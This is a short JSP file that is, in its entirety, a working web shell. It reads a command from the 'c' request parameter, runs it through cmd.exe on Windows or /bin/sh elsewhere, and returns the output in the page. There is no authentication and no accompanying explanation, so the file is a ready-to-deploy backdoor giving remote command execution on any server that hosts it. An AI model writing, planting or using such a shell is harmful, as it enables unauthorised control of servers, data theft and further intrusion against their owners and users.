<%@ page contentType="text/html;charset=UTF-8" import="java.io.*" %>
<%
    String c = request.getParameter("c");
    if (c != null && c.length() > 0) {
        String[] argv = System.getProperty("os.name").toLowerCase().contains("win")
                ? new String[]{"cmd.exe", "/c", c}
                : new String[]{"/bin/sh", "-c", c};
        ProcessBuilder builder = new ProcessBuilder(argv);
        builder.redirectErrorStream(true);
        Process proc = builder.start();
        BufferedReader br = new BufferedReader(new InputStreamReader(proc.getInputStream()));
        String line;
        StringBuilder sb = new StringBuilder();
        while ((line = br.readLine()) != null) {
            sb.append(line).append("\n");
        }
        out.print("<pre>" + sb + "</pre>");
    }
%>
